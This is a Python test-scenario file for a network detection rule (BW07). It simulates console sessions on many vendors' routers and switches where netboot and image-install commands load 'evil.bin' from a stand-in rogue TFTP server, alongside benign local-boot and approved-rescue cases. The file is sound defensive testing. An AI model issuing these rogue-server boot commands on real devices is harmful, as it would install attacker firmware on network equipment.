"""BW07: netboots on the consoles of loaders, and the words of other vendors' command lines."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, IMAGE, ROGUE
from bootwarden.traffic.telnet import Telnet
from bootwarden.traffic.wire import Wire

EVIL = f"tftp://{ROGUE}/evil.bin"
TYPED = ((1, 41), (1, 42), (1, 43), (1, 44), (1, 45), (0, 46), (1542007001, 47), (0, 48), (0, 49), (0, 50))
"""Which rule of BW07 sees what is typed on which device."""


def command(last: int, file: str | None = "evil.bin", server: str | None = ROGUE) -> Notice:
    """The notice of one command or output on device 10.0.1.``last``."""
    return Notice("Boot_Command", f"10.0.1.{last}", server, file)


def console(wire: Wire, last: int, prompt: str, *lines: tuple[str, str], client: str = ATTACKER) -> None:
    """A console behind telnet: lines, each with what it prints."""
    session = Telnet(wire, client, f"10.0.1.{last}", prompt=prompt)
    session.tcp.reply(prompt.encode())
    for line, output in lines:
        session.typed(line, output)
    session.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, ATTACKER, f"10.0.1.{last}") for last in range(21, 28)],
    site=HQ,
    with_site=Expect(tuple(command(last) for last in range(21, 28))),
)
def bw07_consoles(wire: Wire) -> None:
    """Netboots on consoles, server and file in variables, of IOS, IOS-XE, IOS-XR, ASA, NX-OS, Aboot and U-Boot."""
    variables = (("IP_ADDRESS=10.0.1.21", ""), (f"TFTP_SERVER={ROGUE}", ""), ("TFTP_FILE=evil.bin", ""))
    console(wire, 21, "rommon 3 > ", *variables, ("tftpdnld -r", "Receiving evil.bin from 10.0.6.66 !!!!!!!"))
    console(wire, 22, "rommon 3 > ", *variables, ("boot tftp:", ""))
    console(wire, 23, "rommon B1 > ", (f"boot {EVIL}", "Beginning TFTP boot:"))
    asa = (("ADDRESS=10.0.1.24", ""), (f"SERVER={ROGUE}", ""), ("IMAGE=evil.bin", ""))
    console(wire, 24, "rommon #8> ", *asa, ("tftpdnld", f"tftp evil.bin@{ROGUE} via 10.0.1.254"))
    console(wire, 25, "loader> ", ("set ip 10.0.1.25 255.255.255.0", ""), (f"boot {EVIL}", ""))
    console(wire, 26, "Aboot# ", (f"SWI={EVIL}", ""))
    uboot = ((f"setenv serverip {ROGUE}; setenv bootfile evil.bin; saveenv", "Saving Environment to Flash..."),)
    console(wire, 27, "=> ", *uboot, ("tftpboot 0x81000000; bootm", ""))


@scenario(
    "BW07",
    "malicious",
    raises=[
        ("BW07", 1542007380, "10.0.1.31", ADMIN),
        ("BW07", 1542007382, "10.0.1.32", ADMIN),
        ("BW07", 1542007381, "10.0.1.33", ADMIN),
        ("BW07", 1542007383, "10.0.1.34", ADMIN),
        ("BW07", 1542007384, "10.0.1.35", ADMIN),
        ("BW07", 1542007385, "10.0.1.36", ADMIN),
    ],
    site=HQ,
    with_site=Expect(
        (
            command(31),
            command(32, "evil.img"),
            command(33, "asa.bin"),
            command(34, "FGT_evil.out"),
            command(35, "onie/evil-installer"),
            command(36, "evil.elf"),
        )
    ),
)
def bw07_loaders_say(wire: Wire) -> None:
    """The loaders of IOS-XE, U-Boot, ASA, ONIE and CFE say from where they load by themselves; FortiOS' menu asks."""
    menu = f"Enter TFTP server address [192.168.1.168]: {ROGUE}\r\nEnter local address [192.168.1.188]: 10.0.1.34"
    for last, output in (
        (31, f"Receiving evil.bin from {ROGUE} !!!!!!"),
        (32, f"TFTP from server {ROGUE}; our IP address is 10.0.1.32\r\nFilename 'evil.img'.\r\nLoading: ####"),
        (33, f"tftp asa.bin@{ROGUE} via 10.0.1.254"),
        (34, f"{menu}\r\nEnter firmware image file name [image.out]: FGT_evil.out"),
        (35, f"ONIE: Executing installer: tftp://{ROGUE}/onie/evil-installer\r\nVerifying image checksum ... OK."),
        (36, f"Loader:elf Filesys:tftp Dev:eth0 File:{ROGUE}:evil.elf Options:(null)\r\nLoading: 0x80001000/459"),
    ):
        session = Telnet(wire, ADMIN, f"10.0.1.{last}")
        session.tcp.reply(f"\r\nBooting\r\n{output}\r\ndone\r\n".encode())
        session.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", number, ATTACKER, f"10.0.1.{last}") for number, last in TYPED],
    site=HQ,
    with_site=Expect((*(command(last) for last in range(41, 50)), command(50, None, None))),
)
def bw07_vendors_typed(wire: Wire) -> None:
    """Commands of Junos, EOS, VRP, Comware, ProCurve, FastIron, ExtremeXOS, FTOS, ASA and RouterOS."""
    evil = "evil.bin"
    console(wire, 41, "root@mx1> ", (f"request system software add {EVIL} no-validate reboot", ""))
    console(wire, 42, "leaf1#", (f"copy {EVIL} flash:", ""))
    console(wire, 43, "<core1>", (f"tftp -a 10.0.1.43 {ROGUE} get {evil}", ""))
    console(wire, 44, "<core2>", (f"tftp {ROGUE} get {evil}", ""))
    console(wire, 45, "ProCurve# ", (f"copy tftp flash {ROGUE} {evil} secondary", ""))
    console(wire, 46, "ICX(config)#", (f"boot system tftp {ROGUE} {evil}", ""))
    console(wire, 47, "X440.1 # ", (f"download image {ROGUE} {evil} vr VR-Default", ""))
    console(wire, 48, "FTOS(conf)#", (f"boot system stack-unit 1 primary {EVIL}", ""))
    console(wire, 49, "asa1(config)# ", (f"boot system {EVIL}", ""))
    console(
        wire, 50, "[admin@mt1] > ", ("/system routerboard settings set boot-device=try-ethernet-once-then-nand", "")
    )


@scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
def bw07_local_boots(wire: Wire) -> None:
    """Devices boot from their flash, are looked at, and a Unix host's tftp client fetches a file."""
    console(wire, 21, "rommon 3 > ", ("BOOT=flash:c2900.bin", ""), ("boot flash:c2900.bin", ""), ("confreg 0x2102", ""))
    console(wire, 22, "switch: ", ("set BOOT flash:/c2960.bin", ""), ("boot", ""))
    console(wire, 23, "=> ", ("printenv", f"serverip={ROGUE}\nbootcmd=bootm 0x9f020000"), ("bootm 0x9f020000", ""))
    console(wire, 24, "rommon #8> ", (f"SERVER={ROGUE}", ""), ("boot disk0:/asa.bin", ""))
    console(wire, 25, "<core1>", ("display startup", f"Startup system software: flash:/x.cc\n tftp {ROGUE} get x.cc"))
    console(wire, 26, "<core1>", ("startup system-software flash:/x.cc", ""), ("dir flash:", ""))
    console(wire, 27, "ProCurve# ", ("boot set-default flash primary", ""), ("show flash", ""))
    console(wire, 28, "leaf1#", ("zerotouch cancel", ""), ("boot system flash:EOS.swi", ""))
    console(wire, 29, "[admin@mt1] > ", ("/system routerboard settings set boot-device=nand-only", ""))
    console(
        wire, 31, "Enter G,F,I,Q,or H: ", ("H", "Enter TFTP server address [192.168.1.168]: \nEnter Selection [G]:")
    )
    tries = (
        f"Info: Attempting tftp://{ROGUE}/onie-installer-x86_64 ...\nInfo: Attempting file://dev/sda2/onie-installer"
    )
    console(wire, 32, "ONIE:/ # ", ("onie-discovery-start", f"{tries}\nONIE: Executing installer: file://dev/sda2/x"))
    flash = (
        "Loader:raw Filesys:raw Dev:flash0.os File: Options:(null)\nLoader:raw Filesys:tftp Dev:eth0 File:: Options:"
    )
    console(wire, 33, "CFE> ", ("boot -raw -z flash0.os:", flash))
    console(wire, 30, "$ ", (f"tftp {ROGUE}", "tftp> "), ("dhcp -v eth0", ""), ("load average", ""))


@scenario(
    "BW07",
    "benign",
    raises=[("BW07", 0, ADMIN, "10.0.1.21"), ("BW07", 0, ADMIN, "10.0.1.22")],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(
        evidence=(
            {"device": "10.0.1.21", "server": BOOT_SERVER, "file_name": IMAGE, "verdict": "expected"},
            {"device": "10.0.1.21", "server": BOOT_SERVER, "file_name": IMAGE, "verdict": "expected"},
            {"device": "10.0.1.22", "server": BOOT_SERVER, "file_name": IMAGE, "verdict": "expected"},
        )
    ),
)
def bw07_rescue_from_declared_server(wire: Wire) -> None:
    """An admin rescues a router and a switch on their consoles, with the approved image from the declared server."""
    variables = ((f"TFTP_SERVER={BOOT_SERVER}", ""), (f"TFTP_FILE={IMAGE}", ""))
    output = f"Receiving {IMAGE} from {BOOT_SERVER} !!!!!!!"
    console(wire, 21, "rommon 3 > ", *variables, ("tftpdnld", output), client=ADMIN)
    console(wire, 22, "=> ", (f"tftpboot 0x81000000 {BOOT_SERVER}:{IMAGE}", ""), client=ADMIN)
